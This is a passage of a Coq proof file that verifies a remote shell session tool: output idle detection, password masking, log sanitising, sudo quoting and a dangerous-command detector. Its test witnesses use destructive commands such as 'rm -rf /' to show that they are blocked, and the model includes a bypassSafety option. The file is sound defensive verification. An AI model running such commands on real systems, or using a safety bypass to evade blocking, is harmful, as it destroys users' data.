              && negb (truthy (bypassSafety options))) eqn:Hgate.
    + unfold executeCommand. rewrite Hc, Ha, Hgate. exact Hk.
    + rewrite (executeCommand_allowed _ _ _ Hc Ha Hgate). cbn [fst].
      destruct Hk as (K1 & K2).
      split; cbn [closures session now resolved commandHistory set_commandHistory].
      * intros cid c Hcl.
        assert (Hlt : cid < length (closures w ++ [mkClosure command options a ""
                                                     (now w) false None]))
          by (apply nth_error_Some; congruence).
        rewrite length_app in Hlt. simpl in Hlt.
        destruct (Nat.eq_dec cid (length (closures w))) as [->|Hne].
        -- rewrite nth_error_snoc in Hcl. injection Hcl as <-. cbn.
           split; [apply in_or_app; right; now left | lia].
        -- rewrite nth_error_app1 in Hcl by lia.
           destruct (K1 cid c Hcl) as [Hin Hst].
           split; [apply in_or_app; now left | exact Hst].
      * intros cid r Hr. destruct (K2 cid r Hr) as (c & Hcl & Hrest).
        exists c. split; [|exact Hrest].
        rewrite nth_error_app1; [exact Hcl|]. apply nth_error_Some. congruence.
  - unfold on_stdout. apply faithful_deliver.
    + apply consistent_emit_other; [reflexivity | exact Hw].
    + exact Hk.
    + intros lid Hin. exact Hin.
  - exact Hk.
  - exact Hk.
  - destruct (0 <=? ms)%Z eqn:Hms; [|exact Hk].
    apply Z.leb_le in Hms. destruct Hk as (K1 & K2).
    split; cbn [closures session now resolved set_now]; [|exact K2].
    intros cid c Hc. destruct (K1 cid c Hc) as [Hin Hst]. split; [exact Hin | lia].
  - destruct (find_timer id w) as [t|]; [|exact Hk].
    destruct (due t <=? now w)%Z; [|exact Hk].
    unfold fire, run_callback.
    assert (Hk' : results_faithful (clearTimeout (timer_id t) w)) by exact Hk.
    destruct (callback t) as [cid|cid];
      (destruct (nth_error (closures (clearTimeout (timer_id t) w)) cid) as [c|];
       [|exact Hk'];
       destruct (commandCompleted c); cbn [negb];
       [exact Hk' | now apply faithful_completeCommand]).
Qed.

(** X18.  In every state a session can reach, a resolved result belongs to
    a completed command and reports that command's text, the verdict
    computed when it was submitted and the output accumulated for it,
    with a duration that is not negative; and the command is in the
    history with the same verdict, recorded at the time it started. *)
Theorem results_are_faithful (L : CommandPatternLoader) (trace : list Action)
  (cid : nat) (r : Result) :
  let w := run trace (new_world L) in
  In (cid, r) (resolved w) ->
  exists c,
    nth_error (closures w) cid = Some c
    /\ commandCompleted c = true
    /\ res_command r = cl_command c
    /\ res_output r = output c
    /\ res_analysis r = cl_analysis c
    /\ (0 <= duration r)%Z
    /\ In (mkCommandRecord (res_command r) (startTime c) (res_analysis r) true)
          (commandHistory (session w)).
Proof.
  intros w Hr.
  assert (H : forall tr w0, consistent w0 -> results_faithful w0 ->
                            results_faithful (run tr w0)).
  { induction tr as [|a tr IH]; intros w0 Hc Hk; simpl; [assumption|].
    apply IH; [now apply consistent_step | now apply faithful_step]. }
  assert (Hk : results_faithful w).
  { apply H; [apply consistent_new_world|].
    split; [intros [|c'] c Hc; discriminate | intros c' r' []]. }
  destruct Hk as (K1 & K2).
  destruct (K2 cid r Hr) as (c & Hc & Hf & Hres & Hd).
  destruct (K1 cid c Hc) as [Hin _].
  exists c. rewrite Hres. cbn. repeat split; assumption.
Qed.

End ResultFacts.

(* ------------------------------------------------------------------ *)
(** ** Output quiescence *)

Lemma update_nth_snoc {A : Type} (f : A -> A) (l : list A) (x : A) :
  update_nth (length l) f (l ++ [x]) = l ++ [f x].
Proof. induction l as [|y l IH]; simpl; [reflexivity | now rewrite IH]. Qed.

Lemma accumulating_chunk (base : list Closure) (res : list (nat * Result))
  (cmd : string) (opts : Options) (a : Analysis) (t0 deadline last t : Z)
  (out d : string) (w : World) :
  accumulating base res cmd opts a t0 deadline last out w ->
  (last <= t < last + 500)%Z -> (t < deadline)%Z ->
  accumulating base res cmd opts a t0 deadline t (out ++ d)
               (on_stdout d (advance t w)).
Proof.
  intros (idm & id & Hcl & Htm & Hne & Hlt & Hls & Hres & Hnow) Ht Hd.
  destruct w as [nw pl ss si ls em cl tm nt rs]. cbn in Hcl, Htm, Hlt, Hls, Hres, Hnow.
  subst nw cl tm ls rs.
  unfold advance. cbn [timers length run_timers earliest due].
  assert (Hwait : forall x : Timer, In x [mkTimer idm deadline (MaxCb (length base));
                                          mkTimer id (last + 500) (IdleCb (length base))] ->
                                    (due x <=? t)%Z = false).
  { intros x [<-|[<-|[]]]; apply Z.leb_gt; cbn; lia. }
  destruct (last + 500 <? deadline)%Z;
    (rewrite Hwait by (simpl; auto));
    unfold on_stdout, set_now, set_session, emit, set_emitted;
    cbn [now patternLoader session stdin output_listeners emitted closures
         timers next_timer resolved fold_left];
    replace (Z.max last t) with t by lia;
    (erewrite outputHandler_eq by (cbn [closures]; apply nth_error_snoc));
    cbn [idleTimer timers next_timer closures filter timer_id output now
         patternLoader session stdin output_listeners emitted resolved cl_options];
    rewrite Nat.eqb_refl;
    (replace (Nat.eqb idm id) with false by (symmetry; now apply Nat.eqb_neq));
    cbn [negb app]; rewrite !update_nth_snoc;
    exists idm, nt;
    cbn [closures timers next_timer output_listeners resolved now];
    (split; [reflexivity|]); (split; [reflexivity|]);
    (split; [lia|]); (split; [lia|]); repeat split.
Qed.

Lemma accumulating_feed (base : list Closure) (res : list (nat * Result))
  (cmd : string) (opts : Options) (a : Analysis) (t0 deadline : Z)
  (rest : list (Z * string)) :
  forall (last : Z) (out : string) (w : World),
    accumulating base res cmd opts a t0 deadline last out w ->
    steady deadline last rest ->
    accumulating base res cmd opts a t0 deadline (last_arrival last rest)
                 (all_data out rest) (feed rest w).
Proof.
  induction rest as [|[t d] rest IH]; intros last out w Hw Hst; [exact Hw|].
  destruct Hst as (Ht & Hd & Hrest). cbn [fst] in *.
  unfold feed, last_arrival, all_data. cbn [fold_left fst snd].
  apply IH; [|exact Hrest]. apply accumulating_chunk with (last := last); assumption.
Qed.

(** One round of the scheduler: the earliest timer runs when it is due, and
    the clock waits otherwise. *)
Lemma run_timers_fire (fuel : nat) (until : Z) (w : World) (t : Timer) :
  earliest (timers w) = Some t -> (due t <=? until)%Z = true ->
  run_timers (S fuel) until w
  = run_timers fuel until (fire t (set_now (Z.max (now w) (due t)) w)).
Proof. intros He Hd. cbn [run_timers]. now rewrite He, Hd. Qed.

Lemma run_timers_wait (fuel : nat) (until : Z) (w : World) :
  match earliest (timers w) with
  | Some t => (due t <=? until)%Z = false
  | None => True
  end ->
  run_timers fuel until w = set_now (Z.max (now w) until) w.
Proof.
  intros H. destruct fuel; cbn [run_timers]; [reflexivity|].
  destruct (earliest (timers w)); [now rewrite H | reflexivity].
Qed.

(** A timer of a command in flight completes it when it runs. *)
Lemma fire_completes (t : Timer) (w : World) (c : Closure) :
  nth_error (closures w) (callback_closure (callback t)) = Some c ->
  commandCompleted c = false ->
  timers (fire t w)
  = match idleTimer c with
    | Some id => filter (fun t' => negb (Nat.eqb (timer_id t') id))
                        (filter (fun t' => negb (Nat.eqb (timer_id t') (timer_id t)))
                                (timers w))
    | None => filter (fun t' => negb (Nat.eqb (timer_id t') (timer_id t))) (timers w)
    end
  /\ resolved (fire t w)
     = resolved w
       ++ [(callback_closure (callback t),
            mkResult (cl_command c) (output c) (now w - startTime c) (cl_analysis c))].
Proof.
  intros Hc Hf.
  assert (Hfire : fire t w
                  = completeCommand (callback_closure (callback t))
                                    (clearTimeout (timer_id t) w)).
  { unfold fire, run_callback.
    destruct (callback t) as [cid|cid]; cbn [callback_closure] in *;
      (replace (closures (clearTimeout (timer_id t) w)) with (closures w)
         by reflexivity);
      rewrite Hc, Hf; reflexivity. }
  rewrite Hfire.
  rewrite (@completeCommand_fresh _ (clearTimeout (timer_id t) w) c Hc Hf).
  cbn [timers resolved]. split; reflexivity.
Qed.

(** Once the chunks have stopped, the command completes when the first of
    its two timers is due, and not before. *)
Lemma accumulating_completes (base : list Closure) (res : list (nat * Result))
  (cmd : string) (opts : Options) (a : Analysis) (t0 deadline last : Z)
  (out : string) (w : World) :
  accumulating base res cmd opts a t0 deadline last out w ->
  (last < deadline)%Z ->
  let done := Z.min (last + 500) deadline in
  (forall t, (last <= t < done)%Z -> resolved (advance t w) = res)
  /\ resolved (advance done w)
     = res ++ [(length base, mkResult cmd out (done - t0) a)].
Proof.
  intros (idm & id & Hcl & Htm & Hne & Hlt & Hls & Hres & Hnow) Hd done.
  destruct w as [nw pl ss si ls em cl tm nt rs]. cbn in Hcl, Htm, Hlt, Hls, Hres, Hnow.
  subst nw cl tm ls rs. subst done.
  assert (Hidm : Nat.eqb idm id = false) by (now apply Nat.eqb_neq).
  assert (Hid : Nat.eqb id idm = false) by (apply Nat.eqb_neq; congruence).
  split.
  - intros t Ht. unfold advance. rewrite run_timers_wait; [reflexivity|].
    cbn [timers earliest due].
    destruct (last + 500 <? deadline)%Z eqn:Hcmp;
      [apply Z.ltb_lt in Hcmp | apply Z.ltb_ge in Hcmp];
      cbn [due]; apply Z.leb_gt; lia.
  - unfold advance. cbn [timers length].
    destruct (last + 500 <? deadline)%Z eqn:Hcmp.
    + (* the idle timer is due first *)
      pose proof Hcmp as Hlt'. apply Z.ltb_lt in Hlt'.
      replace (Z.min (last + 500) deadline) with (last + 500)%Z by lia.
      rewrite (@run_timers_fire 1 (last + 500) _
                 (mkTimer id (last + 500) (IdleCb (length base))));
        [|cbn [timers earliest due]; now rewrite Hcmp
         |cbn [due]; apply Z.leb_refl].
      cbn [now due].
      replace (Z.max last (last + 500)) with (last + 500)%Z by lia.
      match goal with
      | |- context [fire ?t ?W] =>
          destruct (@fire_completes t W (mkClosure cmd opts a out t0 false (Some id)))
            as [Htimers Hresolved];
          [cbn [callback callback_closure]; unfold set_now; cbn [closures];
           apply nth_error_snoc
          |reflexivity|]
      end.
      rewrite run_timers_wait.
      * unfold set_now at 1. cbn [resolved]. rewrite Hresolved.
        unfold set_now. cbn [resolved now callback callback_closure cl_command output
                               startTime cl_analysis].
        reflexivity.
      * rewrite Htimers. unfold set_now.
        cbn [idleTimer timers filter timer_id].
        rewrite Nat.eqb_refl, Hidm. cbn [negb filter timer_id].
        rewrite Hidm. cbn [negb earliest due].
        apply Z.leb_gt. lia.
    + (* the ceiling timer is due first *)
      pose proof Hcmp as Hge. apply Z.ltb_ge in Hge.
      replace (Z.min (last + 500) deadline) with deadline by lia.
      rewrite (@run_timers_fire 1 deadline _
                 (mkTimer idm deadline (MaxCb (length base))));
        [|cbn [timers earliest due]; now rewrite Hcmp
         |cbn [due]; apply Z.leb_refl].
      cbn [now due].
      replace (Z.max last deadline) with deadline by lia.
      match goal with
      | |- context [fire ?t ?W] =>
          destruct (@fire_completes t W (mkClosure cmd opts a out t0 false (Some id)))
            as [Htimers Hresolved];
          [cbn [callback callback_closure]; unfold set_now; cbn [closures];
           apply nth_error_snoc
          |reflexivity|]
      end.
      rewrite run_timers_wait.
      * unfold set_now at 1. cbn [resolved]. rewrite Hresolved.
        unfold set_now. cbn [resolved now callback callback_closure cl_command output
                               startTime cl_analysis].
        reflexivity.
      * rewrite Htimers. unfold set_now.
        cbn [idleTimer timers filter timer_id].
        rewrite Nat.eqb_refl, Hid. cbn [negb filter timer_id].
        rewrite Nat.eqb_refl. cbn [negb earliest]. exact I.
Qed.

Lemma steady_last (deadline : Z) (rest : list (Z * string)) :
  forall first, (first < deadline)%Z -> steady deadline first rest ->
                (last_arrival first rest < deadline)%Z.
Proof.
  induction rest as [|[t d] rest IH]; intros first Hf Hst; [exact Hf|].
  destruct Hst as (_ & Hd & Hrest). unfold last_arrival. cbn [fold_left fst] in *.
  now apply IH.
Qed.

Section QuiescenceFacts.
Context {engine : RegExpEngine}.

Lemma first_chunk_accumulates (command : string) (options : Options) (w : World)
  (a : Analysis) (t1 : Z) (d1 : string) :
  connected (session w) = true ->
  analyzeCommand (patternLoader w) command = Ok a ->
  dangerous a && blockDangerousCommands (session w)
    && negb (truthy (bypassSafety options)) = false ->
  timers w = [] -> output_listeners w = [] ->
  (now w <= t1 < now w + timer_delay (ceiling options))%Z ->
  accumulating (closures w) (resolved w) command options a (now w)
               (now w + timer_delay (ceiling options)) t1 d1
               (on_stdout d1 (advance t1 (fst (executeCommand command options w)))).
Proof.
  intros Hc Ha Hgate Ht Hl Ht1.
  rewrite (executeCommand_allowed _ _ _ Hc Ha Hgate). cbn [fst].
  rewrite Ht, Hl. cbn [app].
  unfold advance. cbn [timers length run_timers earliest due].
  replace (now w + timer_delay (ceiling options) <=? t1)%Z with false
    by (symmetry; apply Z.leb_gt; lia).
  unfold on_stdout, set_now, set_session, emit, set_emitted.
  cbn [now patternLoader session stdin output_listeners emitted closures
       timers next_timer resolved fold_left].
  replace (Z.max (now w) t1) with t1 by lia.
  erewrite outputHandler_eq by (cbn [closures]; apply nth_error_snoc).
  cbn [idleTimer timers next_timer closures filter timer_id output now
       patternLoader session stdin output_listeners emitted resolved cl_options].
  rewrite !update_nth_snoc.
  exists (next_timer w), (S (next_timer w)).
  cbn [closures timers next_timer output_listeners resolved now app].
  split; [reflexivity|]. split; [reflexivity|].
  split; [lia|]. split; [lia|]. repeat split.
Qed.

(** X19.  Idle detection.  A command is submitted on a session with no
    other command in flight, and chunks of output arrive, the first before
    the ceiling and each of the others less than 500 ms after the one
    before it.  Then the command is not completed while chunks keep
    arriving; it completes exactly when 500 ms have passed since the last
    chunk or when the ceiling is reached, whichever comes first; and its
    result carries all the chunks, in order of arrival, and that time as
    its duration. *)
Theorem output_quiescence (command : string) (options : Options) (w : World)
  (a : Analysis) (t1 : Z) (d1 : string) (rest : list (Z * string)) :
  connected (session w) = true ->
  analyzeCommand (patternLoader w) command = Ok a ->
  dangerous a && blockDangerousCommands (session w)
    && negb (truthy (bypassSafety options)) = false ->
  timers w = [] -> output_listeners w = [] ->
  (now w <= t1 < now w + timer_delay (ceiling options))%Z ->
  steady (now w + timer_delay (ceiling options)) t1 rest ->
  let w' := feed ((t1, d1) :: rest) (fst (executeCommand command options w)) in
  let last := last_arrival t1 rest in
  let done := Z.min (last + 500) (now w + timer_delay (ceiling options)) in
  (forall t, (last <= t < done)%Z -> resolved (advance t w') = resolved w)
  /\ resolved (advance done w')
     = resolved w
       ++ [(length (closures w),
            mkResult command (all_data d1 rest) (done - now w) a)].
Proof.
  intros Hc Ha Hgate Ht Hl Ht1 Hst w' last done.
  pose proof (first_chunk_accumulates command options w d1 Hc Ha Hgate Ht Hl Ht1)
    as Hfirst.
  pose proof (@accumulating_feed _ _ _ _ _ _ _ rest _ _ _ Hfirst Hst) as Hfed.
  assert (Hlast : (last < now w + timer_delay (ceiling options))%Z)
    by (apply steady_last; [lia | exact Hst]).
  exact (@accumulating_completes _ _ _ _ _ _ _ _ _ _ Hfed Hlast).
Qed.

End QuiescenceFacts.

(* ------------------------------------------------------------------ *)
(** ** Credential helpers *)

Lemma string_length_app (s1 s2 : string) :
  String.length (s1 ++ s2) = String.length s1 + String.length s2.
Proof. induction s1 as [|c s1 IH]; simpl; [reflexivity | now rewrite IH]. Qed.

Lemma repeat_star_length (n : nat) : String.length (repeat_star n) = n.
Proof. induction n as [|n IH]; simpl; [reflexivity | now rewrite IH]. Qed.

Lemma repeat_star_get (n i : nat) :
  i < n -> String.get i (repeat_star n) = Some "*"%char.
Proof.
  revert i. induction n as [|n IH]; intros i Hi; [lia|].
  destruct i as [|i]; simpl; [reflexivity | apply IH; lia].
Qed.

Lemma get_in_range (s : string) :
  forall i, i < String.length s -> exists c, String.get i s = Some c.
Proof.
  induction s as [|c s IH]; intros i Hi; simpl in Hi; [lia|].
  destruct i as [|i]; simpl; [now exists c | apply IH; lia].
Qed.

(** The mask of a password of more than four characters, spelled out. *)
Lemma maskPassword_long (p : string) :
  4 < String.length p ->
  exists first last,
    String.get 0 p = Some first
    /\ String.get (String.length p - 1) p = Some last
    /\ maskPassword (Some p)
       = String first (repeat_star (String.length p - 2) ++ String last "").
Proof.
  intros Hlen.
  destruct (@get_in_range p 0) as [first Hfirst]; [lia|].
  destruct (@get_in_range p (String.length p - 1)) as [last Hlast]; [lia|].
  exists first, last. split; [exact Hfirst|]. split; [exact Hlast|].
  unfold maskPassword. destruct p as [|c p]; [simpl in Hlen; lia|].
  replace (String.length (String c p) <=? 4)%nat with false
    by (symmetry; apply Nat.leb_gt; exact Hlen).
  unfold char_at. rewrite Hfirst, Hlast. reflexivity.
Qed.

Lemma maskPassword_truthy (p : option string) :
  truthy_string (Some (maskPassword p)) = true.
Proof.
  destruct p as [[|c p]|]; try reflexivity.
  unfold maskPassword.
  destruct (String.length (String c p) <=? 4)%nat; [reflexivity|].
  unfold char_at. destruct (String.get 0 (String c p)); reflexivity.
Qed.

(** Masking a mask gives the mask again.  This needs a password that is
    present: the mask of a missing password is the word [none], whose own
    mask is four asterisks. *)
Lemma maskPassword_idempotent (x : option string) :
  truthy_string x = true ->
  maskPassword (Some (maskPassword x)) = maskPassword x.
Proof.
  intros Hx. destruct x as [p|]; [|discriminate].
  destruct (Nat.leb (String.length p) 4) eqn:Hlen.
  - destruct p as [|c p]; [discriminate|].
    assert (Hm : maskPassword (Some (String c p)) = "****")
      by (unfold maskPassword; now rewrite Hlen).
    rewrite Hm. reflexivity.
  - apply Nat.leb_gt in Hlen.
    destruct (@maskPassword_long _ Hlen) as (first & last & _ & _ & Hm).
    rewrite Hm.
    set (m := String first (repeat_star (String.length p - 2) ++ String last "")).
    assert (Hlm : String.length m = String.length p).
    { unfold m. cbn [String.length]. rewrite string_length_app, repeat_star_length.
      cbn [String.length]. lia. }
    assert (Hlong : 4 < String.length m) by lia.
    destruct (@maskPassword_long _ Hlong) as (first' & last' & Hf & Hl & Hmm).
    rewrite Hmm, Hlm.
    assert (Hf' : first' = first) by (unfold m in Hf; simpl in Hf; congruence).
    assert (Hl' : last' = last).
    { rewrite Hlm in Hl. unfold m in Hl.
      replace (String.length p - 1) with (S (String.length p - 2)) in Hl by lia.
      cbn [String.get] in Hl.
      pose proof (append_correct2 (repeat_star (String.length p - 2))
                    (String last "") 0) as Happ.
      rewrite repeat_star_length in Happ. cbn [Nat.add String.get] in Happ.
      congruence. }
    now rewrite Hf', Hl'.
Qed.

(** X20.  The mask of a password of more than four characters has the
    length of the password, shows its first and its last character, and
    is an asterisk everywhere in between. *)
Theorem maskPassword_shape (p : string) :
  4 < String.length p ->
  String.length (maskPassword (Some p)) = String.length p
  /\ String.get 0 (maskPassword (Some p)) = String.get 0 p
  /\ String.get (String.length p - 1) (maskPassword (Some p))
     = String.get (String.length p - 1) p
  /\ forall i, 0 < i < String.length p - 1 ->
               String.get i (maskPassword (Some p)) = Some "*"%char.
Proof.
  intros Hlen.
  destruct (@maskPassword_long _ Hlen) as (first & last & Hf & Hl & Hm).
  rewrite Hm, Hf, Hl. split; [|split; [|split]].
  - cbn [String.length]. rewrite string_length_app, repeat_star_length.
    cbn [String.length]. lia.
  - reflexivity.
  - replace (String.length p - 1) with (S (String.length p - 2)) by lia.
    cbn [String.get].
    pose proof (append_correct2 (repeat_star (String.length p - 2))
                  (String last "") 0) as Happ.
    rewrite repeat_star_length in Happ. cbn [Nat.add String.get] in Happ.
    now rewrite <- Happ.
  - intros i Hi. destruct i as [|i]; [lia|]. cbn [String.get].
    rewrite <- append_correct1 by (rewrite repeat_star_length; lia).
    apply repeat_star_get. lia.
Qed.

(** X21.  [sanitizeForLog] is idempotent and touches nothing but the two
    passwords: sanitizing a sanitized configuration changes nothing, the
    other properties are those of the argument, and a password that is
    present is replaced by its mask. *)
Theorem sanitizeForLog_idempotent (Other : Type) (config : ServerConfig Other) :
  sanitizeForLog (sanitizeForLog config) = sanitizeForLog config
  /\ other_properties (sanitizeForLog config) = other_properties config
  /\ password (sanitizeForLog config)
     = (if truthy_string (password config)
        then Some (maskPassword (password config)) else password config)
  /\ sudo_password (sanitizeForLog config)
     = (if truthy_string (sudo_password config)
        then Some (maskPassword (sudo_password config)) else sudo_password config).
Proof.
  destruct config as [pw spw other]. unfold sanitizeForLog.
  cbn [password sudo_password other_properties].
  destruct (truthy_string pw) eqn:Hpw; destruct (truthy_string spw) eqn:Hspw;
    repeat (cbn [password sudo_password other_properties];
            rewrite ?maskPassword_truthy, ?Hpw, ?Hspw);
    rewrite ?(maskPassword_idempotent pw) by exact Hpw;
    rewrite ?(maskPassword_idempotent spw) by exact Hspw;
    cbn [password sudo_password other_properties];
    repeat split.
Qed.

Lemma occurrences_app (c : ascii) (s1 s2 : string) :
  occurrences c (s1 ++ s2) = occurrences c s1 + occurrences c s2.
Proof. induction s1 as [|c' s1 IH]; simpl; [reflexivity | rewrite IH; lia]. Qed.

Lemma escape_quotes_occurrences (command : string) :
  occurrences "'" (escape_quotes command) = 3 * occurrences "'" command
  /\ occurrences "\" (escape_quotes command) = occurrences "\" command.
Proof.
  induction command as [|c rest [IHq IHb]]; [split; reflexivity|].
  cbn [escape_quotes]. rewrite !occurrences_app, IHq, IHb.
  destruct (Ascii.eqb c "'") eqn:Hc.
  - apply Ascii.eqb_eq in Hc. subst c. cbn. split; lia.
  - cbn [occurrences]. rewrite Hc.
    destruct (Ascii.eqb c "\"); split; lia.
Qed.

Lemma escape_quotes_none (command : string) :
  occurrences "'" command = 0 -> escape_quotes command = command.
Proof.
  induction command as [|c rest IH]; [reflexivity|].
  cbn [occurrences escape_quotes]. destruct (Ascii.eqb c "'"); [discriminate|].
  intros H. cbn in H. rewrite IH by exact H. reflexivity.
Qed.

(** X22.  Without a password [buildSudoCommand] wraps the command in single
    quotes for [sudo sh -c]; every single quote of the command becomes
    three single quotes and no backslash is added, so the result holds
    3n + 2 single quotes for a command with n of them and exactly the
    backslashes of the command; a command without single quotes is
    passed as it is. *)
Theorem buildSudoCommand_quoting (command : string) :
  occurrences "'" (buildSudoCommand command None)
  = 3 * occurrences "'" command + 2
  /\ occurrences "\" (buildSudoCommand command None) = occurrences "\" command
  /\ (occurrences "'" command = 0 ->
      buildSudoCommand command None = ("sudo sh -c '" ++ command ++ "'")%string).
Proof.
  destruct (escape_quotes_occurrences command) as [Hq Hb].
  unfold buildSudoCommand. cbn [truthy_string].
  split; [|split].
  - rewrite !occurrences_app, Hq. cbn. lia.
  - rewrite !occurrences_app, Hb. cbn. lia.
  - intros H. now rewrite escape_quotes_none.
Qed.

Lemma prefix_app_left (a b s : string) :
  String.prefix (a ++ b) s = true -> String.prefix a s = true.
Proof.
  revert s. induction a as [|c a IH]; intros s H; [now destruct s|].
  destruct s as [|c' s]; [discriminate|]. cbn in *.
  destruct (ascii_dec c c'); [now apply IH | discriminate].
Qed.

(** X23.  A path for which [getSuggestedOwnership] proposes an owner on the
    ground of its prefix (below /etc/ or /var/www/) is a path that
    [requiresSudo] reports as needing sudo; in particular every path whose
    suggested owner is www-data needs sudo.  The permissions suggested are
    644 for every path. *)
Theorem suggested_owner_needs_sudo (remotePath : string) :
  (startsWith remotePath "/etc/" = true \/ startsWith remotePath "/var/www/" = true ->
   requiresSudo remotePath = true
   /\ owner (getSuggestedOwnership remotePath) <> None)
  /\ (owner (getSuggestedOwnership remotePath) = Some "www-data:www-data" ->
      requiresSudo remotePath = true)
  /\ permissions (getSuggestedOwnership remotePath) = "644".
Proof.
  assert (Hvar : startsWith remotePath "/var/www/" = true ->
                 startsWith remotePath "/var/" = true).
  { unfold startsWith. intros H. apply (@prefix_app_left "/var/" "www/"). exact H. }
  unfold getSuggestedOwnership, requiresSudo, sudoPaths. cbn [existsb].
  split; [|split].
  - intros [H|H].
    + rewrite H. cbn. split; [reflexivity | discriminate].
    + rewrite (Hvar H), H, orb_true_r.
      split; [reflexivity|].
      destruct (startsWith remotePath "/etc/"); cbn; discriminate.
  - destruct (startsWith remotePath "/etc/"); [reflexivity|].
    destruct (startsWith remotePath "/var/www/") eqn:Hw.
    + intros _. now rewrite (Hvar eq_refl).
    + destruct (includes remotePath "/nginx/" || includes remotePath "/apache/");
        cbn; discriminate.
  - destruct (startsWith remotePath "/etc/"); [reflexivity|].
    destruct (startsWith remotePath "/var/www/"); [reflexivity|].
    destruct (includes remotePath "/nginx/" || includes remotePath "/apache/");
      reflexivity.
Qed.

(* ------------------------------------------------------------------ *)
(** ** Further evaluation on the reference engine *)

Section EvaluationMore.
#[local] Existing Instance reference_engine.

(** X2, witness: a fresh registry and one that holds a pattern added at
    run time are left in the same state by a load of the same document. *)
Lemma load_replaces_collections_witness :
  dangerousPatterns (load (FileParsed case_sensitive_doc) new_loader)
  = dangerousPatterns (load (FileParsed case_sensitive_doc) whitelisting_registry)
  /\ suspiciousPatterns (load (FileParsed case_sensitive_doc) new_loader)
     = suspiciousPatterns (load (FileParsed case_sensitive_doc) whitelisting_registry)
  /\ whitelistedPatterns (load (FileParsed case_sensitive_doc) new_loader)
     = whitelistedPatterns (load (FileParsed case_sensitive_doc) whitelisting_registry)
  /\ settings (load (FileParsed case_sensitive_doc) new_loader)
     = settings (load (FileParsed case_sensitive_doc) whitelisting_registry).
Proof.
  apply (@load_replaces_collections reference_engine (FileParsed case_sensitive_doc)
           new_loader whitelisting_registry).
  reflexivity.
Defined.

Example reload_drops_added_pattern :
  length (whitelistedPatterns whitelisting_registry) = 1
  /\ whitelistedPatterns (load (FileParsed case_sensitive_doc) whitelisting_registry)
     = [].
Proof. vm_compute. split; reflexivity. Qed.

(** X3, witness: a document without the suspicious category. *)
Lemma load_incomplete_document_witness :
  dangerousPatterns (load (FileParsed incomplete_doc) whitelisting_registry)
  = default_dangerous
  /\ suspiciousPatterns (load (FileParsed incomplete_doc) whitelisting_registry)
     = default_suspicious
  /\ whitelistedPatterns (load (FileParsed incomplete_doc) whitelisting_registry) = []
  /\ settings (load (FileParsed incomplete_doc) whitelisting_registry)
     = default_settings.
Proof.
  apply (@load_incomplete_document reference_engine incomplete_doc
           whitelisting_registry).
  right. left. reflexivity.
Defined.

(** X4, witness: the verdict of [sudo rm -rf /tmp/test]. *)
Lemma verdict_coherent_witness :
  a_command verdict_sudo_rm = "sudo rm -rf /tmp/test"
  /\ safe verdict_sudo_rm = negb (dangerous verdict_sudo_rm)
  /\ blockedReason verdict_sudo_rm
     = (if dangerous verdict_sudo_rm
        then Some "Potentially destructive command detected" else None)
  /\ (whitelisted verdict_sudo_rm = true -> dangerous verdict_sudo_rm = false)
  /\ length (warnings verdict_sudo_rm)
     = length (matched_dangerous verdict_sudo_rm)
       + length (matched_suspicious verdict_sudo_rm)
  /\ (warnings verdict_sudo_rm = []
      <-> dangerous verdict_sudo_rm = false /\ suspicious verdict_sudo_rm = false).
Proof.
  apply (@verdict_coherent reference_engine default_registry "sudo rm -rf /tmp/test"
           verdict_sudo_rm).
  vm_compute. reflexivity.
Defined.

(** X5, witness: the same verdict against the two queries. *)
Lemma verdict_agrees_with_queries_witness :
  dangerous verdict_sudo_rm
  = isDangerousCommand default_registry "sudo rm -rf /tmp/test"
  /\ suspicious verdict_sudo_rm
     = isSuspiciousCommand default_registry "sudo rm -rf /tmp/test".
Proof.
  apply (@verdict_agrees_with_queries reference_engine default_registry
           "sudo rm -rf /tmp/test" verdict_sudo_rm).
  vm_compute. reflexivity.
Defined.

(** X6, witness: [rm -rf /] on the default registry. *)
Lemma analyzeCommand_dangerous_witness :
  exists a,
    analyzeCommand default_registry "rm -rf /" = Ok a
    /\ dangerous a = true /\ safe a = false /\ whitelisted a = false
    /\ blockedReason a = Some "Potentially destructive command detected"
    /\ matched_dangerous a <> [].
Proof.
  apply (@analyzeCommand_dangerous reference_engine default_registry "rm -rf /").
  - right. reflexivity.
  - vm_compute. reflexivity.
  - simpl. repeat constructor; discriminate.
  - simpl. repeat constructor; discriminate.
Defined.

(** X7, witness: [ls -la] on the default registry. *)
Lemma analyzeCommand_safe_witness :
  analyzeCommand default_registry "ls -la"
  = Ok (mkAnalysis "ls -la" true false false (isWhitelisted default_registry "ls -la")
          [] None [] []).
Proof.
  apply (@analyzeCommand_safe reference_engine default_registry "ls -la").
  - vm_compute. reflexivity.
  - vm_compute. reflexivity.
Defined.

(** X8, witness: a registry loaded from a document whose suspicious entry
    has no severity, and a command that the entry matches. *)
Lemma missing_severity_throws_witness :
  exists e,
    analyzeCommand (patternLoader unrated_world) "apt install nginx" = Throw e
    /\ executeCommand "apt install nginx" no_options unrated_world
       = (unrated_world, Rejected e).
Proof.
  apply (@missing_severity_throws reference_engine unrated_world "apt install nginx"
           no_options).
  - reflexivity.
  - vm_compute. apply Exists_cons_hd. reflexivity.
Defined.

Example unrated_pattern_error :
  analyzeCommand (patternLoader unrated_world) "apt install nginx"
  = Throw (TypeError "Cannot read properties of undefined (reading 'toUpperCase')")
  /\ exists a, analyzeCommand (patternLoader unrated_world) "ls -la" = Ok a.
Proof. split; [vm_compute; reflexivity | eexists; vm_compute; reflexivity]. Qed.

(** X9, witness: the tester announces BLOCKED for [rm -rf /], and the
    session rejects it. *)
Lemma testCommand_predicts_block_witness :
  executeCommand "rm -rf /" no_options connected_world
  = (emit (EvBlocked "rm -rf /" verdict_rm_rf_root) connected_world,
     Rejected (ErrorMsg "Command blocked: Potentially destructive command detected")).
Proof.
  destruct (@testCommand_predicts_block reference_engine connected_world "rm -rf /"
              verdict_rm_rf_root (mkCliOptions (Some false))) as [Htext _].
  - reflexivity.
  - reflexivity.
  - vm_compute. reflexivity.
  - destruct (Htext eq_refl) as [Hblocked _].
    apply Hblocked. vm_compute. reflexivity.
Defined.

Example tester_reports :
  testCommand default_registry "rm -rf /" (mkCliOptions (Some false)) = CliLine CliBlocked
  /\ testCommand default_registry "sudo rm -rf /tmp/test" (mkCliOptions None)
     = CliLine CliWarning
  /\ testCommand default_registry "ls -la" (mkCliOptions None) = CliLine CliSafe
  /\ exists d s,
       testCommand default_registry "rm -rf /" (mkCliOptions (Some true))
       = CliJson d s false
       /\ dr_dangerous d = true /\ sr_suspicious s = false.
Proof.
